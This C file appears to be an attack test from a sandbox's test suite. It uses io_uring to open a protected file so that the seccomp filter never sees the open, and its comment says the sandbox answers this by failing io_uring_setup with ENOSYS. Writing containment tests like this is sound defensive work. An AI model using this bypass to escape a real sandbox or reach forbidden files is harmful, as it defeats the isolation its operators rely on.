/* Attack: io_uring. An IORING_OP_OPENAT is performed by the kernel's io_uring workers, not
 * by a system call of the program, so seccomp never sees it: the filter makes io_uring_setup
 * fail with ENOSYS instead. */
#include <fcntl.h>
#include <linux/io_uring.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

int main(int argc, char **argv)
{
	atk_init(argc, argv);
	struct io_uring_params prm;
	memset(&prm, 0, sizeof(prm));
	atk_more();
	int ring = (int)syscall(SYS_io_uring_setup, 4, &prm);
	if (ring < 0)
		return atk_done(); /* held: ENOSYS under sysbroker */
	size_t sq_sz = prm.sq_off.array + prm.sq_entries * sizeof(unsigned);
	size_t cq_sz = prm.cq_off.cqes + prm.cq_entries * sizeof(struct io_uring_cqe);
	char *sq = mmap(NULL, sq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
			IORING_OFF_SQ_RING);
	char *cq = mmap(NULL, cq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
			IORING_OFF_CQ_RING);
	struct io_uring_sqe *sqes =
	    mmap(NULL, prm.sq_entries * sizeof(*sqes), PROT_READ | PROT_WRITE,
		 MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED)
		atk_cannot("map the rings");
	const char *path = atk_path("sec/f");
	struct io_uring_sqe *e = &sqes[0];
	memset(e, 0, sizeof(*e));
	e->opcode = IORING_OP_OPENAT;
	e->fd = AT_FDCWD;
	e->addr = (unsigned long)path;
	e->open_flags = A.write ? O_WRONLY : O_RDONLY;
	unsigned *tail = (unsigned *)(sq + prm.sq_off.tail);
	unsigned *array = (unsigned *)(sq + prm.sq_off.array);
	array[*tail & *(unsigned *)(sq + prm.sq_off.ring_mask)] = 0;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		atk_cannot("io_uring_enter");
	unsigned *head = (unsigned *)(cq + prm.cq_off.head);
	struct io_uring_cqe *cqe = (struct io_uring_cqe *)(cq + prm.cq_off.cqes) +
				   (*head & *(unsigned *)(cq + prm.cq_off.ring_mask));
	atk_fd(cqe->res >= 0 ? cqe->res : -1, "io_uring openat");
	return atk_done();
}
